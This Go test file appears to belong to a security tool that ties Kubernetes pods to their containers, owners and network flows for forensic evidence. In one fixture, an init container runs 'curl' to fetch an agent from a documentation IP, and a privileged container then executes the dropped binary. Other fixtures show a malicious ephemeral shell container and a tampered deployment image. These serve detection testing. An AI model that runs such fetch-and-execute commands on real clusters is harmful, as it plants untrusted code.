package entity

import (
	"net/netip"
	"slices"
	"strings"
	"testing"

	"tidewaiter/event"
	"tidewaiter/evidence"
	"tidewaiter/image"
)

// podStory is a story of a cluster with nodes; what has no node is told of the
// cluster.
type podStory struct{ *story }

func newPodStory(t *testing.T) podStory {
	s := podStory{newStory(t)}
	s.place = event.Place{Cluster: "main"}
	return s
}

// on gives the story as one node's own sensors tell it.
func (s podStory) on(node string, tell func()) {
	before := s.place
	s.place.Host = node
	tell()
	s.place = before
}

func podRef(name, uid string) event.ObjectRef {
	return event.ObjectRef{Kind: "Pod", Namespace: "prod", Name: name, UID: uid}
}

func spec(images ...string) *event.PodSpec {
	out := &event.PodSpec{}
	for i, ref := range images {
		out.Containers = append(out.Containers, event.ContainerSpec{Name: string(rune('a' + i)), Kind: event.MainContainer, Image: image.Parse(ref), PullPolicy: "Always"})
	}
	return out
}

// ask adds that somebody created a pod.
func (s podStory) ask(at float64, who string, pod, owner event.ObjectRef, spec *event.PodSpec) *event.Pod {
	b := &event.Pod{Verb: event.VerbCreate, Object: pod, Owner: owner, By: event.Principal{Name: who}, Code: 201, Spec: spec}
	s.add(at, event.KubeAudit, b)
	return b
}

func (s podStory) status(at float64, pod event.ObjectRef, addr string, containers ...event.ContainerStatus) *event.PodStatus {
	b := &event.PodStatus{Object: pod, Node: "n1", Containers: containers, HostAddrs: []netip.Addr{ip("10.0.1.1")}}
	if addr != "" {
		b.Addrs = []netip.Addr{ip(addr)}
	}
	s.add(at, event.KubeAudit, b)
	return b
}

// label adds what containerd says of a container after its creation.
func (s podStory) label(at float64, id, kind, name string, pod event.ObjectRef) {
	s.add(at, event.Containerd, &event.Container{Action: event.ContainerUpdate, ID: id, Labels: map[string]string{
		"io.cri-containerd.kind": kind, "io.kubernetes.container.name": name,
		"io.kubernetes.pod.namespace": pod.Namespace, "io.kubernetes.pod.name": pod.Name, "io.kubernetes.pod.uid": pod.UID,
	}})
}

// the gives what is known of a pod after every way of telling.
func (s podStory) the(pod event.ObjectRef) *evidence.Subject {
	s.t.Helper()
	id := evidence.SubjectID{Kind: podKind, Place: event.Place{Cluster: "main"}, ID: podID(podName{pod.Namespace, pod.Name}, pod.UID)}
	sub, ok := s.told().Subject(id)
	if !ok {
		s.t.Fatalf("pod %s is not known; there are %v", id, s.told().Subjects())
	}
	return sub
}

// tells compares a subject's facts of some kinds, each with its container's
// name, "-" for the pod as a whole.
func (s podStory) tells(sub *evidence.Subject, kinds []evidence.Kind, want ...string) {
	s.t.Helper()
	var got []string
	for _, f := range sub.Of(kinds...) {
		name := "-"
		if f.Container != evidence.Whole {
			name = sub.Containers[f.Container].Name
		}
		got = append(got, name+" "+tell(f))
	}
	if !slices.Equal(got, want) {
		s.t.Errorf("%s:\n%s\nwant\n%s", sub.ID, strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

var (
	behaviour = []evidence.Kind{evidence.Command, evidence.Connection, evidence.Lookup}
	web       = podRef("web-1", "u1")
)

// The kubelet's status ties a pod, its containers' ids, their images and its
// address together.
func TestTheKubeletsStatusTiesAPod(t *testing.T) {
	s := newPodStory(t)
	s.ask(1, "alice", web, event.ObjectRef{}, spec("web:1"))
	s.status(5, web, "10.42.0.7", event.ContainerStatus{Name: "a", Kind: event.MainContainer, ID: containerA, Image: image.Parse("web:1"), ImageID: sum(1)})
	s.flow(9, "10.42.0.7:4000", "203.0.113.1:443")
	s.on("n1", func() {
		s.task(3, containerA, 100)
		s.run(4, 100, 50, "server")
		s.flow(8, "10.42.0.7:4001", "203.0.113.2:443") // seen on the node
	})
	sub := s.the(web)
	s.tells(sub, behaviour, "a server [first]", "- 203.0.113.2:443", "- 203.0.113.1:443")
	c := sub.Containers[0]
	if len(sub.Containers) != 1 || c.ID != containerA || c.Host != "n1" || c.Namespace != "prod" || c.Pod != "web-1" || c.Image.Canonical != sum(1) || c.PullPolicy != "Always" {
		t.Errorf("%+v", sub.Containers)
	}
	if got := s.told().Subjects(); len(got) != 1 {
		t.Errorf("subjects %v, want the pod only", got)
	}
	if sub.Sight[evidence.Connection] != evidence.Observable || sub.Sight[evidence.Command] != evidence.Observable {
		t.Errorf("sight %v", sub.Sight)
	}
}

// Without the API, a pod is known from its sandbox's labels: its shim has the
// runtime make every container.
func TestTheShimTiesAContainerToItsSandbox(t *testing.T) {
	s := newPodStory(t)
	sandbox := id(9)
	s.on("n1", func() {
		s.create(1, sandbox, "pause:3")
		s.label(1.01, sandbox, "sandbox", "", web)
		s.shim(2, 40, sandbox)
		s.run(3, 60, 40, "runc", "create", "--bundle", "/b", containerA)
		s.create(3, containerA, "web:1")
		s.task(4, containerA, 100)
		s.run(5, 100, 40, "server")
	})
	sub := s.the(web)
	if len(sub.Containers) != 1 || sub.Containers[0].ID != containerA {
		t.Fatalf("%+v", sub.Containers)
	}
	s.tells(sub, behaviour, " server [first]")
}

// A CRI runtime's log names the sandbox of each container, and its pod.
func TestARuntimesLogTiesAContainerToItsSandbox(t *testing.T) {
	s := newPodStory(t)
	s.on("n1", func() {
		s.add(1, event.CRI, &event.Sandbox{Action: event.ContainerCreate, ID: id(9), Object: web})
		s.add(2, event.CRI, &event.Container{Action: event.ContainerCreate, ID: containerA, Name: "a", Sandbox: id(9)})
		s.task(3, containerA, 100)
		s.run(4, 100, 50, "server")
	})
	s.tells(s.the(web), behaviour, "a server [first]")
}

// Sensors in a cluster name the pod. A name is given again after a deletion:
// each record is the pod's that had it then.
func TestAPodsNameMeansOnePodAfterTheOther(t *testing.T) {
	s := newPodStory(t)
	second := podRef("web-1", "u2")
	s.ask(1, "alice", web, event.ObjectRef{}, spec("web:1"))
	s.ask(1000, "alice", second, event.ObjectRef{}, spec("web:2"))
	of := &event.PodRef{Namespace: "prod", Pod: "web-1"}
	s.flow(10, "10.42.0.7:1", "203.0.113.1:80").SrcPod = of
	s.flow(1010, "10.42.0.7:1", "203.0.113.2:80").SrcPod = of
	s.add(1020, event.KubeEvents, &event.KubeEvent{Object: podRef("web-1", ""), Container: "a", Reason: "Started"})
	s.tells(s.the(web), behaviour, "- 203.0.113.1:80")
	s.tells(s.the(second), []evidence.Kind{evidence.Start, evidence.Connection}, "- 203.0.113.2:80", "a start")
	if c := s.the(second).Containers; len(c) != 1 || c[0].Image.Reference.Tag() != "2" {
		t.Errorf("%+v", c)
	}
}

// A pod's address is another pod's as soon as that has it, whatever records of
// the first one's end are missing.
func TestAPodsAddressIsGivenAgain(t *testing.T) {
	s := newPodStory(t)
	other := podRef("db-1", "u2")
	s.status(5, web, "10.42.0.7")
	s.add(50, event.KubeAudit, &event.Pod{Verb: event.VerbDelete, Object: web, Code: 200})
	s.status(105, other, "10.42.0.7").StartedAt = event.Time{At: sec(100), Res: event.Second}
	s.flow(20, "10.42.0.7:1", "203.0.113.1:80")
	s.flow(101, "10.42.0.7:1", "203.0.113.2:80")
	s.flow(70, "10.42.0.7:1", "203.0.113.3:80") // nobody's
	s.tells(s.the(web), behaviour, "- 203.0.113.1:80")
	s.tells(s.the(other), behaviour, "- 203.0.113.2:80")
}

// A pod in the host's network has no address of its own: what its node's
// address does while it lives is told of it as shared, and is nobody's.
func TestAHostsAddressIsNoPods(t *testing.T) {
	s := newPodStory(t)
	s.status(5, web, "10.0.1.1")
	s.flow(20, "10.0.1.1:1", "203.0.113.1:80")
	s.flow(2, "10.0.1.1:1", "203.0.113.2:80") // before it lived
	s.on("n1", func() { s.flow(21, "10.0.1.1:2", "203.0.113.3:80") })
	s.flow(22, "10.0.1.9:2", "203.0.113.4:80") // another address of the node
	s.on("n1", func() { s.add(-1, event.Inventory, &event.HostDescription{Addrs: []netip.Addr{ip("10.0.1.9")}}) })
	other := podRef("web-2", "u2")
	s.status(5, other, "10.42.0.7") // is not in the host's network
	s.tells(s.the(web), behaviour, "- 203.0.113.1:80 [shared]", "- 203.0.113.3:80 [shared]", "- 203.0.113.4:80 [shared]")
	s.tells(s.the(other), behaviour)
	if c := s.told().Counts(); c.Placed != 0 {
		t.Errorf("%+v", c)
	}
}

// A runtime's client on the host tells who had a container made, and an image
// brought that no registry gave.
func TestClientsOfTheRuntime(t *testing.T) {
	s := newPodStory(t)
	s.on("n1", func() {
		s.run(1, 70, 60, "ctr", "-n", "k8s.io", "images", "import", "/tmp/p.tar").AUID = 1000
		s.add(2, event.Containerd, &event.Image{Action: event.ImageCreate, Reference: image.Parse("web:1"), Namespace: "k8s.io"})
		s.create(10, containerA, "web:1")
		s.run(20, 71, 60, "docker", "--context", "x", "run", "-it", "--rm", "other:2", "sh").AUID = 1000
		s.create(25, containerB, "other:2")
		s.create(800, containerC, "other:2") // too late to be of that call
		s.run(30, 72, 60, "docker", "ps", "web:1")
	})
	of := func(id string) *evidence.Subject {
		sub, _ := s.told().Subject(evidence.SubjectID{Kind: containerKind, Place: event.Place{Cluster: "main", Host: "n1"}, ID: id})
		return sub
	}
	if c := of(containerA); c.Containers[0].Image.Origin != evidence.OriginImport || len(c.Of(evidence.Arrival)) != 2 || c.Containers[0].AskedBy.Known {
		t.Errorf("%+v", c.Containers)
	}
	if c := of(containerB); c.Containers[0].AskedBy.AUID != 1000 || len(c.Of(evidence.Creation)) != 2 {
		t.Errorf("%+v", c.Containers)
	}
	if of(containerC).Containers[0].AskedBy.Known {
		t.Error("a call counts for what came long after it")
	}
}

// Several containers share one pod; what the network tells is the pod's.
func TestContainersOfOnePod(t *testing.T) {
	s := newPodStory(t)
	p := spec("evil.example/setup:1", "web:1")
	p.Containers[0].Kind = event.InitContainer
	p.Containers[1].Risk = event.Risk{Privileged: true}
	p.Containers[1].Probes = [][]string{{"check"}}
	s.ask(1, "alice", web, event.ObjectRef{}, p)
	s.status(9, web, "10.42.0.7",
		event.ContainerStatus{Name: "a", ID: containerA, Image: image.Parse("evil.example/setup:1")}, event.ContainerStatus{Name: "b", ID: containerB, Image: image.Parse("web:1")})
	s.on("n1", func() {
		s.task(2, containerA, 100)
		s.run(3, 100, 50, "curl", "-o", "/shared/agent", "http://203.0.113.9/a")
		s.taskExit(4, containerA, 100)
		s.task(5, containerB, 200)
		s.run(6, 200, 50, "/shared/agent")
		s.run(7, 210, 200, "check")
	})
	s.flow(8, "10.42.0.7:1", "203.0.113.9:443")
	sub := s.the(web)
	s.tells(sub, behaviour, "a curl -o /shared/agent http://203.0.113.9/a [first]", "b /shared/agent [first dropped]", "b check [health]", "- 203.0.113.9:443")
	if !sub.Containers[1].Risk.Privileged || sub.Containers[0].Risk.Privileged || sub.Containers[0].Kind != event.InitContainer {
		t.Errorf("%+v", sub.Containers)
	}
}

// A container that somebody put into a running pod has its creation told by the
// change to the pod.
func TestAnEphemeralContainer(t *testing.T) {
	s := newPodStory(t)
	s.ask(1, "alice", web, event.ObjectRef{}, spec("web:1"))
	debug := &event.PodSpec{Containers: []event.ContainerSpec{{Name: "shell", Kind: event.EphemeralContainer, Image: image.Parse("evil.example/shell")}}}
	s.add(500, event.KubeAudit, &event.Pod{Verb: event.VerbUpdate, Object: web, Spec: debug, By: event.Principal{Name: "bob"}, Code: 200})
	s.add(600, event.KubeAudit, &event.PodAccess{Action: "exec", Object: web, Container: "shell", Command: []string{"id"}, By: event.Principal{Name: "bob"}})
	sub := s.the(web)
	s.tells(sub, []evidence.Kind{evidence.Creation, evidence.Access}, "- creation", "shell creation", "shell access")
	if len(sub.Containers) != 2 || sub.Containers[1].Kind != event.EphemeralContainer {
		t.Errorf("%+v", sub.Containers)
	}
}

// Who asked for a pod is told at the top of what made it.
func TestOwners(t *testing.T) {
	deployment := event.ObjectRef{Kind: "Deployment", Namespace: "prod", Name: "web"}
	set := event.ObjectRef{Kind: "ReplicaSet", Namespace: "prod", Name: "web-5b7c9"}
	creators := func(sub *evidence.Subject) string {
		var out []string
		for _, c := range sub.Pod.Creators {
			out = append(out, c.By.Name+" "+ownerText(c.Object))
		}
		return strings.Join(out, ", ")
	}
	check := func(t *testing.T, s podStory, owner, made string) {
		t.Helper()
		sub := s.the(web)
		if got := ownerText(sub.Pod.Owner); got != owner {
			t.Errorf("owner %s, want %s", got, owner)
		}
		if got := creators(sub); got != made {
			t.Errorf("made by %s, want %s", got, made)
		}
	}
	t.Run("told", func(t *testing.T) {
		s := newPodStory(t)
		s.add(1, event.KubeAudit, &event.Workload{Verb: event.VerbCreate, Object: deployment, By: event.Principal{Name: "alice"}, Template: spec("web:1")})
		s.add(2, event.KubeAudit, &event.Workload{Verb: event.VerbCreate, Object: set, Owner: deployment, By: event.Principal{Name: "controller"}, Template: spec("web:1")})
		s.ask(3, "controller", web, set, spec("web:1"))
		check(t, s, "deployment/web", "alice deployment/web, controller replicaset/web-5b7c9, controller pod/web-1")
		s.tells(s.the(web), []evidence.Kind{evidence.Creation}, "- creation", "- creation", "- creation")
	})
	t.Run("the last change before", func(t *testing.T) {
		s := newPodStory(t)
		s.add(1, event.KubeAudit, &event.Workload{Verb: event.VerbCreate, Object: deployment, By: event.Principal{Name: "alice"}, Template: spec("web:1")})
		s.add(2, event.KubeAudit, &event.Workload{Verb: event.VerbUpdate, Object: deployment, By: event.Principal{Name: "mallory"}, Template: spec("evil.example/web:1")})
		s.add(2.5, event.KubeAudit, &event.Workload{Verb: event.VerbUpdate, Object: deployment, By: event.Principal{Name: "refused"}, Template: spec("x"), Code: 403})
		s.add(9, event.KubeAudit, &event.Workload{Verb: event.VerbUpdate, Object: deployment, By: event.Principal{Name: "later"}, Template: spec("web:3")})
		s.ask(3, "controller", web, set, nil)
		check(t, s, "deployment/web", "mallory deployment/web, controller pod/web-1")
		if got := s.the(web).Containers[0].Image.Reference.Repository(); got != "evil.example/web" {
			t.Errorf("image %s", got)
		}
	})
	t.Run("by their names", func(t *testing.T) {
		s := newPodStory(t)
		s.ask(3, "controller", web, event.ObjectRef{Kind: "Job", Namespace: "prod", Name: "report-29373912"}, spec("web:1"))
		check(t, s, "cronjob/report", "controller pod/web-1")
	})
	t.Run("as a sensor tells", func(t *testing.T) {
		s := newPodStory(t)
		s.flow(10, "10.42.0.7:1", "203.0.113.1:80").SrcPod = &event.PodRef{Namespace: "prod", Pod: "web-1", UID: "u1", Workload: deployment}
		check(t, s, "deployment/web", "")
	})
	t.Run("in a circle", func(t *testing.T) {
		s := newPodStory(t)
		s.add(1, event.KubeAudit, &event.Workload{Verb: event.VerbCreate, Object: deployment, Owner: set})
		s.add(2, event.KubeAudit, &event.Workload{Verb: event.VerbCreate, Object: set, Owner: deployment})
		s.ask(3, "controller", web, set, spec("web:1"))
		check(t, s, "deployment/web", " deployment/web,  replicaset/web-5b7c9, controller pod/web-1")
	})
	t.Run("itself", func(t *testing.T) {
		s := newPodStory(t)
		s.ask(3, "bob", web, event.ObjectRef{}, spec("web:1"))
		check(t, s, "pod/web-1", "bob pod/web-1")
	})
}

// Two clusters have the same names and addresses; nothing of the one is the
// other's, and an unknown cluster is neither.
func TestClustersAreApart(t *testing.T) {
	s := newPodStory(t)
	for _, cluster := range []string{"main", "blue", ""} {
		s.place = event.Place{Cluster: cluster}
		s.status(5, web, "10.42.0.7", event.ContainerStatus{Name: "a", ID: containerA})
		s.flow(20, "10.42.0.7:1", map[string]string{"main": "203.0.113.1:80", "blue": "203.0.113.2:80", "": "203.0.113.3:80"}[cluster])
	}
	s.place = event.Place{Cluster: "blue", Host: "n1"}
	s.run(10, 100, 50, "server").Container = containerA
	s.place = event.Place{Cluster: "main"}
	s.tells(s.the(web), behaviour, "- 203.0.113.1:80")
	blue, _ := s.told().Subject(evidence.SubjectID{Kind: podKind, Place: event.Place{Cluster: "blue"}, ID: "prod/web-1/u1"})
	s.tells(blue, behaviour, "a server [first]", "- 203.0.113.2:80")
}

// Names that a server is asked for explain connections to its address, those
// that a node saw too.
func TestNamesByHandshakes(t *testing.T) {
	s := newPodStory(t)
	s.status(5, web, "10.42.0.7")
	s.add(9, event.Zeek, &event.TLS{Client: ipPort("10.42.0.9:1"), Server: ipPort("203.0.113.1:443"), ServerName: "Pool.Example"})
	s.add(9, event.Zeek, &event.HTTP{Client: ipPort("10.42.0.7:1"), Server: ipPort("203.0.113.2:80"), Host: "a.example", Method: "GET", URI: "/x"})
	s.on("n1", func() { s.flow(10, "10.42.0.7:1", "203.0.113.1:443") })
	s.flow(11, "10.42.0.7:2", "203.0.113.2:80").DstNames = []string{"b.example"}
	sub := s.the(web)
	s.tells(sub, behaviour, "- 203.0.113.1:443 [pool.example]", "- 203.0.113.2:80 [a.example b.example]")
	if got := len(sub.Of(evidence.Request)); got != 1 {
		t.Errorf("%d requests, want 1", got)
	}
}

// ownerText is an owner as people name it: "deployment/web".
func ownerText(o event.ObjectRef) string { return strings.ToLower(o.Kind) + "/" + o.Name }
